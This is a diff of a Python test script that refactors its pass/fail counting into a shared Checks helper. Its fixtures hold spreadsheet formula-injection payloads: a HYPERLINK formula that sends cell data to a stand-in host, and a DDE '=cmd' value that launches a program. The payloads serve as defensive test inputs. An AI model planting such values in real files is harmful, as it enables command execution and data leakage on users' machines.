@@ -18,6 +18,7 @@ import tempfile
 sys.path.insert(0, os.path.join(os.environ.get("SRCDIR", "."), "tests",
                                 "tools"))
 from timing import scaled  # noqa: E402
+from checks import Checks  # noqa: E402
 
 DEADLINECTL = os.environ.get("DEADLINECTL")
 SRCDIR = os.environ.get("SRCDIR")
@@ -26,16 +27,7 @@ TITLES = ['=HYPERLINK("http://x.invalid/?"&A1,"Báo cáo")', "+84 912 345 678",
           "-1+2", "@SUM(A1:A9)", "Báo cáo quý II - kết quả"]
 UNIT_NAME = "=cmd|' /C calc'!A0"
 
-passed = failed = 0
-
-
-def check(cond, what):
-    global passed, failed
-    if cond:
-        passed += 1
-    else:
-        failed += 1
-        print("FAIL: " + what)
+check = Checks()
 
 
 def ctl(cfg, *args):
@@ -106,8 +98,7 @@ def main():
                              "json"))
         check([u["name"] for u in doc["units"] if u["unit"] == "a"] ==
               [UNIT_NAME], "report json name unchanged")
-    print("%d passed, %d failed" % (passed, failed))
-    return 1 if failed else 0
+    return check.summary()
 
 
 if __name__ == "__main__":
